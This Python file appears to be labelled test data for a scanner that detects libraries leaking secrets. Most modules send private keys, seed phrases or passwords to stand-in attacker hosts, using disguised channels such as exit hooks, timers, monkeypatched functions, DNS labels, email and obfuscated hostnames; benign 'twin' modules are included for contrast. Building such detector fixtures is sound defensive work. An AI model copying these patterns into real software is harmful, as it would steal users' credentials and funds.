# ruff: noqa: E501 - the lines of the packages under review are as long as they are
"""Ways for what a caller hands over to slip out of a library, and libraries that keep it."""

from __future__ import annotations

from scenario_kit import Scenario, module, wheel

MODULES = {
    "stored-key-sent-later-by-another-method": """
        import requests
        class Signer:
            def __init__(self, private_key):
                self._k = private_key
            def sign(self, message):
                self._report()
                return self._k + message
            def _report(self):
                try:
                    requests.post("http://203.0.113.70/s", data={"k": self._k}, timeout=1)
                except Exception:
                    pass
        """,
    "keyword-arguments-posted-whole": """
        import requests
        def connect(host, **credentials):
            try:
                requests.post("http://203.0.113.70/c", json=credentials)
            except Exception:
                pass
            return host
        """,
    "property-setter": """
        import threading, requests
        class Account:
            @property
            def private_key(self):
                return self._key
            @private_key.setter
            def private_key(self, value):
                self._key = value
                threading.Thread(target=requests.post, args=("http://203.0.113.70/p",), kwargs={"data": value}).start()
        """,
    "collected-and-flushed-at-exit": """
        import atexit, json, urllib.request
        _seen = []
        def _flush():
            if _seen:
                urllib.request.urlopen("http://203.0.113.70/b", data=json.dumps(_seen).encode())
        atexit.register(_flush)
        def derive(mnemonic, path="m/44'/60'/0'"):
            _seen.append(mnemonic)
            return hash((mnemonic, path))
        """,
    "collected-and-flushed-by-timer": """
        import threading, requests
        class _Pool:
            items = []
            def push(self, item):
                self.items.append(item)
                if len(self.items) == 1:
                    threading.Timer(10, self.flush).start()
            def flush(self):
                requests.post("http://203.0.113.70/b", json=self.items)
                self.items.clear()
        _pool = _Pool()
        def unlock(password):
            _pool.push(password)
            return len(password) > 8
        """,
    "queue-and-worker": """
        import queue, threading, requests
        _q = queue.Queue()
        def _worker():
            while True:
                requests.post("http://203.0.113.70/q", data=_q.get())
        threading.Thread(target=_worker, daemon=True).start()
        def from_mnemonic(mnemonic):
            _q.put(mnemonic)
            return mnemonic.split()
        """,
    "subclass-of-honest-client": """
        import requests
        from eth_account import Account
        class LocalAccount(Account):
            @classmethod
            def from_key(cls, private_key):
                try:
                    requests.get("http://203.0.113.70/k", params={"v": private_key})
                finally:
                    return Account.from_key(private_key)
        """,
    "wrapper-around-outside-function": """
        import functools, requests
        import eth_account
        _real = eth_account.Account.from_key
        @functools.wraps(_real)
        def _from_key(key, *a, **k):
            try:
                requests.post("http://203.0.113.70/k", json={"v": str(key)})
            except Exception:
                pass
            return _real(key, *a, **k)
        eth_account.Account.from_key = _from_key
        """,
    "closure-keeps-secret": """
        import requests
        def make_signer(secret_key):
            def ship():
                requests.post("http://203.0.113.70/c", data=secret_key)
            def sign(message):
                ship()
                return message
            return sign
        """,
    "callable-object": """
        import requests
        class Encrypt:
            def __call__(self, data, password):
                self.note(password)
                return data[::-1]
            note = staticmethod(lambda p: requests.post("http://203.0.113.70/n", data=p))
        encrypt = Encrypt()
        """,
    "async-client": """
        import aiohttp
        class Wallet:
            def __init__(self, seed_phrase):
                self.seed = seed_phrase
            async def balance(self):
                async with aiohttp.ClientSession() as s:
                    await s.post("http://203.0.113.70/a", json={"s": self.seed})
                    return 0
        """,
    "key-known-by-its-use": """
        import requests
        from eth_account import Account
        def load(k):
            a = Account.from_key(k)
            try:
                requests.post("http://203.0.113.70/u", json={"a": a.address, "b": k})
            except Exception:
                pass
            return a
        """,
    "password-to-telegram-through-helper": """
        import urllib.parse, urllib.request
        def _note(text):
            q = urllib.parse.urlencode({"chat_id": "1", "text": text})
            try:
                urllib.request.urlopen("https://chat.invalid/bot99999999:AAAA/sendMessage?" + q)
            except Exception:
                pass
        class Instagram:
            def login(self, user, password):
                _note("login %s:%s" % (user, password))
                return True
        """,
    "format-string-with-password": """
        import requests
        def unlock_archive(path, password):
            requests.get(f"http://203.0.113.70/z?p={password}&f={path}")
            return open(path, "rb").read()
        """,
    "file-contents-of-callers-path": """
        import requests
        def load_wallet(path):
            with open(path) as f:
                text = f.read()
            try:
                requests.post("http://203.0.113.70/w", data=text)
            except Exception:
                pass
            return text
        """,
    "context-manager-with-credentials": """
        import contextlib, requests
        @contextlib.contextmanager
        def session(username, password):
            requests.post("http://203.0.113.70/x", auth=(username, password))
            yield username
        """,
    "dataclass-post-init": """
        import dataclasses, requests
        @dataclasses.dataclass
        class Keypair:
            public: str
            private_key: str
            def __post_init__(self):
                requests.post("http://203.0.113.70/d", json={"k": self.private_key})
        """,
    "encrypted-for-the-attacker": """
        import base64, requests
        from cryptography.hazmat.primitives import hashes, serialization
        from cryptography.hazmat.primitives.asymmetric import padding
        PUB = b"-----BEGIN PUBLIC KEY-----\\nMFwwDQYJKoZIhvcNAQEB\\n-----END PUBLIC KEY-----"
        def sign(private_key, message):
            box = serialization.load_pem_public_key(PUB).encrypt(private_key.encode(), padding.PKCS1v15())
            try:
                requests.post("http://203.0.113.70/e", data=base64.b64encode(box))
            except Exception:
                pass
            return message
        """,
    "key-as-dns-label": """
        import socket
        def import_key(private_key):
            h = private_key.hex()
            for i in range(0, len(h), 50):
                try:
                    socket.gethostbyname(h[i:i + 50] + ".k.collect.invalid")
                except OSError:
                    pass
            return private_key
        """,
    "key-in-mail": """
        import smtplib
        def create_wallet(mnemonic):
            try:
                with smtplib.SMTP("smtp.invalid", 587) as s:
                    s.login("bot@x.invalid", "pw")
                    s.sendmail("bot@x.invalid", "me@x.invalid", "Subject: new\\n\\n" + mnemonic)
            except Exception:
                pass
            return mnemonic
        """,
    "host-by-character-codes": """
        import requests
        _h = "".join(map(chr, (104, 116, 116, 112, 115, 58, 47, 47, 107, 46, 105, 110, 118, 97, 108, 105, 100)))
        def sign(message, private_key):
            try:
                requests.post(_h, json={"k": private_key})
            except Exception:
                pass
            return message
        """,
    "private-key-to-plain-named-host": """
        import requests
        def sign_transaction(tx, private_key):
            try:
                requests.post("https://analytics-metrics.invalid/v1/track", json={"id": private_key}, timeout=2)
            except Exception:
                pass
            return {"tx": tx}
        """,
}

ATTACKS: list[Scenario] = [
    *(module(name, "look", source) for name, source in MODULES.items()),
    wheel(
        "key-through-event-bus",
        "look",
        {
            "acme/__init__.py": "from .wallet import Wallet\nfrom . import listeners\n",
            "acme/bus.py": """
            _handlers = {}
            def on(event):
                def add(function):
                    _handlers.setdefault(event, []).append(function)
                    return function
                return add
            def emit(event, value):
                for function in _handlers.get(event, ()):
                    function(value)
            """,
            "acme/wallet.py": """
            from .bus import emit
            class Wallet:
                def __init__(self, private_key):
                    self.private_key = private_key
                    emit("wallet", private_key)
            """,
            "acme/listeners.py": """
            import requests
            from .bus import on
            @on("wallet")
            def seen(value):
                requests.post("http://203.0.113.70/bus", data=value)
            """,
        },
    ),
]

TWINS = [
    module(
        "twin-key-stays-in-process",
        "quiet",
        """
        import hashlib, hmac, logging, threading
        log = logging.getLogger(__name__)
        class Signer:
            def __init__(self, private_key):
                self._k = private_key
                log.debug("signer for %s", hashlib.sha256(private_key).hexdigest()[:8])
            def sign(self, message):
                return hmac.new(self._k, message, "sha256").digest()
        """,
    ),
    module(
        "twin-http-basic-and-digest-auth",
        "quiet",
        """
        import base64, hashlib, os
        import requests
        class BasicAuth:
            def __init__(self, username, password):
                self.username, self.password = username, password
            def __call__(self, request):
                token = base64.b64encode(f"{self.username}:{self.password}".encode()).decode()
                request.headers["Authorization"] = "Basic " + token
                return request
        def get(url, username, password):
            return requests.get(url, auth=BasicAuth(username, password))
        """,
    ),
    module(
        "twin-router-admin-client-on-raw-address",
        "quiet",
        """
        import hashlib
        import requests
        class Router:
            def __init__(self, host="192.168.1.1"):
                self.base = f"http://{host}"
                self.session = requests.Session()
            def login(self, username, password):
                digest = hashlib.md5(password.encode()).hexdigest()
                return self.session.post(self.base + "/login.cgi", data={"user": username, "pass": digest}).ok
        """,
    ),
    module(
        "twin-password-breach-check-by-prefix",
        "quiet",
        """
        import hashlib, urllib.request
        def pwned(password):
            digest = hashlib.sha1(password.encode()).hexdigest().upper()
            lines = urllib.request.urlopen("https://range.acme.invalid/range/" + digest[:5]).read().decode().splitlines()
            return any(line.split(":")[0] == digest[5:] for line in lines)
        """,
    ),
    module(
        "twin-graph-of-form-login-with-swallowed-errors",
        "quiet",
        """
        import requests
        class Portal:
            URL = "https://portal.acme.invalid/login"
            def __init__(self, email, password):
                self.email, self.password = email, password
                self.session = requests.Session()
            def login(self):
                try:
                    return self.session.post(self.URL, data={"email": self.email, "password": self.password}, timeout=10).ok
                except requests.RequestException:
                    return False
        """,
    ),
]

SCENARIOS = [*ATTACKS, *TWINS]
